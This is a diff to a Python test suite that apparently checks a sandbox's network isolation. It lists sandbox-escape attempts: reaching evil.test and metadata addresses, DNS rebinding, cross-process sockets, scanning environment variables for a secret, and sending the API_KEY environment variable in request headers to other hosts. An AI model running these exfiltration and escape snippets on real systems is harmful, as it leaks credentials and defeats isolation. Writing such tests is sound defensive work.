@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import os
 import socket
 from typing import NamedTuple
 
@@ -52,13 +51,13 @@ _ADDRESSES = (
     "0.0.0.0",
 )
 _MEETING = (
-    "import socket\ns = socket.create_server(('127.0.0.1', 45673))\ns.settimeout(2)\ns.accept()\n'ESCAPED'",
-    "import socket, time\nend, r = time.time() + 2, 'unharmed'\nwhile time.time() < end and r == 'unharmed':\n    try:\n"
+    "import socket\ns = socket.create_server(('127.0.0.1', 45673))\ns.settimeout(1)\ns.accept()\n'ESCAPED'",
+    "import socket, time\nend, r = time.time() + 1, 'unharmed'\nwhile time.time() < end and r == 'unharmed':\n    try:\n"
     "        socket.create_connection(('127.0.0.1', 45673), 1)\n        r = 'ESCAPED'\n    except OSError:\n        time.sleep(0.02)\nr",
 )
 _DATAGRAMS = (
-    "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.bind(('127.0.0.1', 45674))\ns.settimeout(2)\ns.recv(1)\n'ESCAPED'",
-    "import socket, time\ns = socket.socket(type=socket.SOCK_DGRAM)\nfor n in range(60):\n    s.sendto(b'x', ('127.0.0.1', 45674))\n"
+    "import socket\ns = socket.socket(type=socket.SOCK_DGRAM)\ns.bind(('127.0.0.1', 45674))\ns.settimeout(1)\ns.recv(1)\n'ESCAPED'",
+    "import socket, time\ns = socket.socket(type=socket.SOCK_DGRAM)\nfor n in range(40):\n    s.sendto(b'x', ('127.0.0.1', 45674))\n"
     "    time.sleep(0.02)\n'unharmed'",
 )
 _MANY = """
@@ -88,7 +87,7 @@ ATTACKS = (
     *(Attack(f"reach_{address.strip('[]').replace(':', '_')}_by_tls", _get(f"https://{address}/")) for address in _ADDRESSES[:3]),
     Attack("reach_another_name", _get("http://evil.test/")),
     Attack("reach_another_port", _TRY.format("socket.create_connection(('api.example.com', 8080), 2)"), still_held=("landlock", "seccomp landlock")),
-    Attack("ask_another_name_server", _say("8.8.8.8", 53, bytes.fromhex("001d1234010000010000000000000465766c3104746573740000010001"), lack=b"\x83")),
+    Attack("ask_another_name_server", _say("8.8.8.8", 53, bytes.fromhex("001b123401000001000000000000046576696c04746573740000010001"), lack=b"\x83")),
     *(Attack(f"follow_a_redirect_to_{place}", _get(f"http://api.example.com/{place}")) for place in ("evil", "metadata", "loopback", "port")),
     *(Attack(f"reach_what_{name}_leads_to", _get(f"http://{name}.example.com/")) for name in ("loopback", "metadata", "mapped", "mixed", "inner")),
     Attack("rebind_a_name", "import urllib.request\nr = []\nfor n in range(4):\n    try:\n        r.append(urllib.request.urlopen('http://rebinding.example.com/').status)\n    except OSError:\n        pass\n'ESCAPED' if len(r) > 1 else r"),
@@ -100,11 +99,11 @@ ATTACKS = (
     Attack("listen", _TRY.format(_LISTEN.format("127.0.0.1", 45672)), opened_by=("seccomp landlock",), still_held=("seccomp", "landlock")),
     *(Attack(f"take_the_services_place_at_{port}", _TRY.format(_LISTEN.format("198.18.0.1", port)), still_held=("seccomp", "landlock", "seccomp landlock")) for port in (53, 80, 443)),
     Attack("meet_a_sibling_over_loopback", pair=_MEETING, opened_by=("network seccomp landlock",), still_held=("seccomp landlock", "network landlock", "network seccomp")),
-    Attack("meet_a_sibling_over_an_abstract_socket", pair=("import socket\ns = socket.socket(1)\ns.bind('\\0dspex')\ns.listen()\ns.settimeout(2)\ns.accept()\n'ESCAPED'", "import socket, time\nend, r = time.time() + 2, 'alone'\nwhile time.time() < end and r == 'alone':\n    s = socket.socket(1)\n    try:\n        s.connect('\\0dspex')\n        r = 'ESCAPED'\n    except OSError:\n        time.sleep(0.02)\nr"), opened_by=("network seccomp landlock",), still_held=("seccomp landlock",)),
+    Attack("meet_a_sibling_over_an_abstract_socket", pair=("import socket\ns = socket.socket(1)\ns.bind('\\0dspex')\ns.listen()\ns.settimeout(1)\ns.accept()\n'ESCAPED'", "import socket, time\nend, r = time.time() + 1, 'alone'\nwhile time.time() < end and r == 'alone':\n    s = socket.socket(1)\n    try:\n        s.connect('\\0dspex')\n        r = 'ESCAPED'\n    except OSError:\n        time.sleep(0.02)\nr"), opened_by=("network seccomp landlock",), still_held=("seccomp landlock",)),
     Attack("meet_a_branch_over_loopback", branches=_MEETING, still_held=("landlock",)),
     Attack("meet_a_branch_by_datagrams", branches=_DATAGRAMS, still_held=("landlock",)),
     Attack("hold_more_connections_than_allowed", _MANY),
-    Attack("find_the_value_of_a_secret", "import os\nneedle = '9876543210-evil-ks'[::-1].replace('live', 'live')\n'ESCAPED' if any(needle in v for v in os.environ.values()) else 'nothing'", policy=POLICY),
+    Attack("find_the_value_of_a_secret", "import os\nneedle = '9876543210-evil-ks'[::-1]\n'ESCAPED' if any(needle in v for v in os.environ.values()) else 'nothing'", policy=POLICY),
     Attack("have_a_secret_sent_without_tls", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'******' in r or b'sk-live' in r else r", policy=POLICY),
     Attack("have_a_secret_sent_elsewhere", "import os, urllib.request as u\nr = u.urlopen(u.Request('http://www.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' in r else r", policy=POLICY),
     Attack("see_a_secret_in_an_echo", "import os, urllib.request as u\nr = u.urlopen(u.Request('https://api.example.com/', headers={{'K': os.environ['API_KEY']}})).read()\n'ESCAPED' if b'sk-live' in r or b'****' not in r else r", policy=POLICY),
@@ -180,11 +179,10 @@ def test_a_host_without_namespaces_gives_no_network(host):
     assert result["raised"].startswith("IsolationError")
 
 
-def test_an_ordinary_user_gets_an_answer(connected_host):
-    """On each kind of host an allowed request is answered, over both schemes, and logged."""
+def test_what_is_allowed_works_on_every_kind_of_host(connected_host):
+    """An allowed request is answered, over both schemes; else that attacks fail would mean nothing."""
     code = (
         "import urllib.request\n[urllib.request.urlopen(f'{s}://api.example.com/').status for s in ('http', 'https')]"
     )
     result = connected_host.run({"name": "works", "codes": [code], "policy": POLICY, "outside": True})
     assert result["value"] == [200, 200], result
-    assert os.path.exists("/proc/self/ns/net")
